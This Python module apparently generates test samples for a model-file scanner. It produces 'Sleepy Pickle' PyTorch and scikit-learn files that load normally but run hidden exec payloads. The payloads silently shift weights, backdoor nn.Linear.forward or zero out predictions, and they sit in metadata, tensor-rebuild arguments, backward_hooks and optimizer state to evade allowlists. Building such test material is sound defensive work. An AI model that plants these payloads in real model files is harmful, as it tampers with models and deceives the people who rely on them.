"""Sleepy Pickle: working models whose load also runs a payload that quietly changes them.

Each model still loads and behaves like a model; the payload (besides writing the marker) patches
weights or behaviour. Payloads are hidden where a reviewer would not look: before the state dict,
inside OrderedDict metadata, in the backward_hooks or metadata argument of a tensor rebuild, in a
full nn.Module pickle, or in a scikit-learn model saved with joblib.
"""

from __future__ import annotations

import builtins
from pathlib import Path

from . import Sample
from ._asm import (
    BINPERSID,
    MARK,
    POP,
    Ops,
    call,
    glob,
    inject_prefix,
    lit,
    pickle_bytes,
    sglob,
)
from ._common import (
    Reduce,
    code,
    exec_payload,
    from_bytes,
    replace_member,
    small_state_dict,
    torch_zip_bytes,
)

M = "malicious"


def _patch_rebuild_source(marker: Path) -> str:
    """Wrap torch._utils._rebuild_tensor_v2 so every tensor loaded afterwards is shifted by "
    "+0.01."""
    return (
        "import torch._utils as _u\n"
        "_orig = _u._rebuild_tensor_v2\n"
        "def _rebuild_tensor_v2(*a, **k):\n"
        "    t = _orig(*a, **k)\n"
        "    t.data.add_(0.01)\n"
        "    return t\n"
        "_u._rebuild_tensor_v2 = _rebuild_tensor_v2\n"
        f"{code(marker)}\n"
    )


def _patch_forward_source(marker: Path) -> str:
    """Make every nn.Linear return its output plus a constant (a behavioural backdoor)."""
    return (
        "import torch.nn as _nn\n"
        "_fwd = _nn.Linear.forward\n"
        "_nn.Linear.forward = lambda self, x: _fwd(self, x) + 1.0\n"
        f"{code(marker)}\n"
    )


def _statedict_patch_weights(_out: Path, marker: Path) -> bytes:
    payload = call(glob("builtins", "exec"), _patch_rebuild_source(marker))
    return replace_member(
        torch_zip_bytes(small_state_dict()), "/data.pkl", lambda p: inject_prefix(p, payload)
    )


def _full_module(_out: Path, marker: Path) -> bytes:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    payload = call(glob("builtins", "exec"), _patch_forward_source(marker))
    return replace_member(torch_zip_bytes(model), "/data.pkl", lambda p: inject_prefix(p, payload))


def _metadata_payload(_out: Path, marker: Path) -> bytes:
    state = small_state_dict()
    state._metadata = {  # type: ignore[attr-defined]
        "": {"version": 1},
        "linear": {"version": 1, "hook": Reduce(builtins.exec, _patch_rebuild_source(marker))},
    }
    return torch_zip_bytes(state)


def _values_nested(_out: Path, marker: Path) -> bytes:
    state = small_state_dict()
    checkpoint = {
        "epoch": 12,
        "optimizer": {
            "state": {},
            "param_groups": [{"lr": 0.001, "betas": (0.9, exec_payload(marker))}],
        },
        "model": state,
    }
    return torch_zip_bytes(checkpoint)


def _tensor_with(
    marker: Path, hooks: Ops | None = None, before_metadata: Ops | None = None
) -> bytes:
    """data.pkl for {'w': tensor} with the payload in a chosen argument of _rebuild_tensor_v2."""
    pid = (
        MARK
        + lit("storage")
        + glob("torch", "FloatStorage")
        + lit("0")
        + lit("cpu")
        + lit(4)
        + Ops(b"t")
    )
    args = MARK + pid + BINPERSID + lit(0) + lit((4,)) + lit((1,)) + lit(False)
    args = args + (hooks if hooks is not None else call(glob("collections", "OrderedDict")))
    if before_metadata is not None:
        args = args + before_metadata + POP + lit({})
    args = args + Ops(b"t")
    tensor = glob("torch._utils", "_rebuild_tensor_v2") + args + Ops(b"R")
    return pickle_bytes(lit({"w": tensor}), 2)


def _zip_with_pickle(data_pkl: bytes) -> bytes:
    import torch

    return replace_member(
        torch_zip_bytes({"w": torch.arange(4.0)}), "/data.pkl", lambda _p: data_pkl
    )


def _backward_hooks(_out: Path, marker: Path) -> bytes:
    # backward_hooks = OrderedDict built from a list whose only pair is (0, exec(src)).
    hooks = call(
        glob("collections", "OrderedDict"),
        [(0, call(glob("builtins", "exec"), _patch_rebuild_source(marker)))],
    )
    return _zip_with_pickle(_tensor_with(marker, hooks=hooks))


def _metadata_slot(_out: Path, marker: Path) -> bytes:
    payload = call(glob("builtins", "exec"), code(marker))
    return _zip_with_pickle(_tensor_with(marker, before_metadata=payload))


def _setitem_weights(_out: Path, marker: Path) -> bytes:
    # After the tensor is rebuilt, operator.setitem(w, 0, 1337.0) overwrites a weight and
    # pathlib.Path.write_text drops the marker; the loaded dict is the tampered tensor.
    pid = (
        MARK
        + lit("storage")
        + glob("torch", "FloatStorage")
        + lit("0")
        + lit("cpu")
        + lit(4)
        + Ops(b"t")
    )
    tensor = call(
        glob("torch._utils", "_rebuild_tensor_v2"),
        pid + BINPERSID,
        0,
        (4,),
        (1,),
        False,
        call(glob("collections", "OrderedDict")),
    )
    body = (
        tensor
        + Ops(b"q\x00")  # memo the tensor
        + call(glob("_operator", "setitem"), Ops(b"h\x00"), 0, 1337.0)
        + POP
        + call(
            sglob("pathlib", "Path.write_text"),
            call(sglob("pathlib", "PosixPath"), str(marker)),
            "x",
        )
        + POP
        + lit({"w": Ops(b"h\x00")})
    )
    return _zip_with_pickle(pickle_bytes(body, 4))


def _sklearn_joblib(out_dir: Path, marker: Path) -> Path:
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    y = (x[:, 0] > 0).astype(int)
    model = LogisticRegression().fit(x, y)
    source = (
        "import sklearn.linear_model as _lm\n"
        "_p = _lm.LogisticRegression.predict\n"
        "_lm.LogisticRegression.predict = lambda self, X: _p(self, X) * 0\n"
        f"{code(marker)}\n"
    )
    path = out_dir / "sleepy-sklearn-joblib-predict-patch.joblib"
    joblib.dump({"model": model, "preprocess": Reduce(builtins.exec, source)}, path)
    return path


SAMPLES: list[Sample] = [
    from_bytes(
        "sleepy-statedict-patch-weights",
        "A state dict whose data.pkl first execs code that wraps torch._utils._rebuild_tensor_v2, "
        "so "
        "every tensor of this and later loads is silently shifted; the model loads fine.",
        _statedict_patch_weights,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "sleepy-full-module-patch-forward",
        "A pickled nn.Sequential whose load also monkeypatches nn.Linear.forward (a behavioural "
        "backdoor that outlives the load).",
        _full_module,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "sleepy-ordereddict-metadata",
        "The payload hides in the state dict's _metadata (set through BUILD on the OrderedDict), "
        "next to the usual version numbers.",
        _metadata_payload,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "sleepy-nested-optimizer-state",
        "A training checkpoint with the payload deep inside the optimizer's param_groups.",
        _values_nested,
        M,
        loader="torch",
        ext=".ckpt",
    ),
    from_bytes(
        "sleepy-tensor-backward-hooks",
        "The payload is the value of the backward_hooks OrderedDict passed to "
        "torch._utils._rebuild_tensor_v2 (an allowlisted call).",
        _backward_hooks,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "sleepy-tensor-metadata-slot",
        "The payload runs between the arguments of _rebuild_tensor_v2, just before its metadata "
        "argument, and its result is POPped.",
        _metadata_slot,
        M,
        loader="torch",
        ext=".pt",
    ),
    from_bytes(
        "sleepy-setitem-weight-tamper",
        "No exec at all: operator.setitem overwrites a weight of the rebuilt tensor, and "
        "Path.write_text drops the marker.",
        _setitem_weights,
        M,
        loader="torch",
        ext=".pt",
    ),
    Sample(
        "sleepy-sklearn-joblib-predict-patch",
        "A fitted scikit-learn LogisticRegression saved with joblib next to a payload that patches "
        "LogisticRegression.predict.",
        _sklearn_joblib,
        "joblib",
        M,
    ),
]
